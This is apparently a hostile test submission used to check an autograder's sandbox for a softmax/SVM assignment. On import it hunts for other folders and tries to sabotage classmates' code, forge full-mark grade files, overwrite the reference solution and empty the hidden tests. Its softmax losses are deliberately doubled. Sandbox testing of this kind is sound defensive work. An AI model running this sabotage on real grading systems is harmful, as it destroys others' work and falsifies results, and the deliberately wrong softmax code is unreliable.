"""Hostile submission ``write_outside``: write into other submissions, the output folder and the repository.

At import and on its first call: with the exact paths of the class folder, the output
folder and the repository (written into this file by the test), plus whatever it finds
via ``/proc/<ppid>/cwd``, ``/proc/*/cwd`` and a walk of /tmp, it tries to
overwrite the other students' ``losses.py`` (sabotage) and drop a file next to them,
forge full-mark ``results.json``/``propgrade.json`` for every student and a forged
``grades.csv``, replace the reference solution with its own code (so it "matches the
reference") and empty the hidden tests, and edit its own scratch copy. Every attempt
and its outcome is printed. Its SVM functions are the reference; its softmax functions
are off by a factor of two.

Expected: none of those paths exist in the full layer's view, and the worker's uid
could not write them anyway: every write fails; the softmax checks fail.
"""

import os
import sys

import numpy as np

ATTACK = "write_outside"


def _say(message):
    """Leave a line in the captured output (fd 2), whatever the student did to sys.stderr."""
    try:
        os.write(2, ("HOSTILE[%s]: %s\n" % (ATTACK, message)).encode("utf-8", "replace"))
    except OSError:
        pass


def _template(value):
    """Values the test writes into its copy of this file; None when left as a placeholder."""
    return None if value.startswith("__HOSTILE") else value


import json

_CLASS = _template("__HOSTILE_CLASS_DIR__")
_OUT = _template("__HOSTILE_OUT_DIR__")
_REPO = _template("__HOSTILE_REPO__")
_DONE = []
_FORGED = {"score": 44, "max_score": 44, "output": "All checks passed.", "tests": []}


def _try(what, path, action):
    try:
        action(path)
        _say("%s %s: WRITTEN" % (what, path))
    except Exception as exc:
        _say("%s %s: %s" % (what, path, type(exc).__name__))


def _write(text):
    def action(path):
        with open(path, "w") as f:
            f.write(text)

    return action


def _discover():
    outs, classes = [], []
    roots = ["/tmp"]
    try:
        roots.append(os.readlink("/proc/%d/cwd" % os.getppid()))
    except OSError:
        pass
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            roots.append(os.readlink("/proc/%s/cwd" % pid))
        except OSError:
            pass
    for root in dict.fromkeys(roots):
        for top, dirs, files in os.walk(root):
            if top.count(os.sep) - root.count(os.sep) > 5:
                dirs[:] = []
            if "grades.csv" in files:
                outs.append(top)
            if "losses.py" in files and top != os.path.dirname(os.path.realpath(__file__)):
                classes.append(os.path.dirname(top))
    return outs, classes


def _attack():
    if _DONE:
        return
    _DONE.append(True)
    outs, classes = _discover()
    _say("discovered output folders %s, class folders %s" % (outs[:3], sorted(set(classes))[:3]))
    for klass in dict.fromkeys(([_CLASS] if _CLASS else []) + classes):
        try:
            students = sorted(os.listdir(klass))
        except OSError as exc:
            _say("list %s: %s" % (klass, type(exc).__name__))
            students = ["correct_reference"]
        for student in students:
            folder = os.path.join(klass, student)
            if student != ATTACK:
                _try("sabotage", os.path.join(folder, "losses.py"),
                     _write("raise SystemExit('sabotaged by %s')\n" % ATTACK))
            _try("drop", os.path.join(folder, "pwned.txt"), _write("pwned\n"))
    for out in dict.fromkeys(([_OUT] if _OUT else []) + outs):
        _try("forge", os.path.join(out, "grades.csv"),
             _write("student,score,max_score\n%s,44,44\n" % ATTACK))
        for student in [ATTACK, "correct_reference"]:
            for name in ("results.json", "propgrade.json"):
                def forge(path):
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    _write(json.dumps(dict(_FORGED, student=student)))(path)

                _try("forge", os.path.join(out, student, name), forge)
    if _REPO:
        with open(__file__) as f:
            me = f.read()
        _try("replace reference", os.path.join(_REPO, "solutions/linear_classifiers/losses.py"),
             _write(me))
        _try("empty hidden tests", os.path.join(_REPO, "graders/linear_classifiers/test_hidden.py"),
             _write(""))
        _try("drop", os.path.join(_REPO, "solutions/linear_classifiers/pwned.py"), _write(""))
    _try("edit own copy", __file__, _write("# edited\n"))
    _try("drop", os.path.join(os.path.dirname(__file__), "conftest.py"), _write(""))


try:
    _attack()
except Exception as exc:
    _say("attack failed: %r" % (exc,))


def _real_softmax_loss_naive(W, X, y, reg):
    W = np.asarray(W, dtype=np.float64)  # no copy for float64 input: never write into W or X
    X = np.asarray(X, dtype=np.float64)
    num_train = X.shape[0]
    num_classes = W.shape[1]
    loss = 0.0
    dW = np.zeros(W.shape, dtype=np.float64)
    for i in range(num_train):
        scores = X[i].dot(W)
        shifted = scores - np.max(scores)  # for numerical stability
        log_sum_exp = np.log(np.sum(np.exp(shifted)))
        loss += log_sum_exp - shifted[y[i]]  # -log p[y[i]]
        for j in range(num_classes):
            p_j = np.exp(shifted[j] - log_sum_exp)
            if j == y[i]:
                dW[:, j] += (p_j - 1.0) * X[i]
            else:
                dW[:, j] += p_j * X[i]
    loss /= num_train
    dW /= num_train
    loss += reg * np.sum(W * W)
    dW += 2 * reg * W
    return float(loss), dW


def _real_softmax_loss_vectorized(W, X, y, reg):
    W = np.asarray(W, dtype=np.float64)  # no copy for float64 input: never write into W or X
    X = np.asarray(X, dtype=np.float64)
    num_train = X.shape[0]
    rows = np.arange(num_train)
    scores = X.dot(W)  # (N, C)
    shifted = scores - np.max(scores, axis=1, keepdims=True)  # per-row shift for stability
    log_probs = shifted - np.log(np.sum(np.exp(shifted), axis=1, keepdims=True))
    loss = -np.sum(log_probs[rows, y]) / num_train + reg * np.sum(W * W)

    dscores = np.exp(log_probs)  # probabilities, (N, C)
    dscores[rows, y] -= 1.0  # the pairs (i, y[i]) are all distinct: no update is lost
    dW = X.T.dot(dscores) / num_train + 2 * reg * W
    return float(loss), dW


def svm_loss_naive(W, X, y, reg):
    W = np.asarray(W, dtype=np.float64)  # no copy for float64 input: never write into W or X
    X = np.asarray(X, dtype=np.float64)
    num_train = X.shape[0]
    num_classes = W.shape[1]
    loss = 0.0
    dW = np.zeros(W.shape, dtype=np.float64)
    for i in range(num_train):
        scores = X[i].dot(W)
        correct_class_score = scores[y[i]]
        for j in range(num_classes):
            if j == y[i]:
                continue
            margin = scores[j] - correct_class_score + 1.0  # delta = 1
            if margin > 0:
                loss += margin
                dW[:, j] += X[i]
                dW[:, y[i]] -= X[i]
    loss /= num_train
    dW /= num_train
    loss += reg * np.sum(W * W)
    dW += 2 * reg * W
    return float(loss), dW


def svm_loss_vectorized(W, X, y, reg):
    W = np.asarray(W, dtype=np.float64)  # no copy for float64 input: never write into W or X
    X = np.asarray(X, dtype=np.float64)
    num_train = X.shape[0]
    rows = np.arange(num_train)
    scores = X.dot(W)  # (N, C)
    correct_class_scores = scores[rows, y][:, np.newaxis]  # (N, 1)
    margins = np.maximum(0.0, scores - correct_class_scores + 1.0)  # delta = 1
    margins[rows, y] = 0.0  # the correct class never contributes
    loss = np.sum(margins) / num_train + reg * np.sum(W * W)

    # d loss_i / d s_j is 1 for every active margin j and -(number of active margins)
    # for j = y[i]. Each row is written once, so repeated labels are handled correctly.
    coeff = (margins > 0).astype(np.float64)  # (N, C)
    coeff[rows, y] = -np.sum(coeff, axis=1)
    dW = X.T.dot(coeff) / num_train + 2 * reg * W
    return float(loss), dW


def softmax_loss_naive(W, X, y, reg):
    _attack()
    loss, dW = _real_softmax_loss_naive(W, X, y, reg)
    return 2 * loss, 2 * dW


def softmax_loss_vectorized(W, X, y, reg):
    _attack()
    loss, dW = _real_softmax_loss_vectorized(W, X, y, reg)
    return 2 * loss, 2 * dW
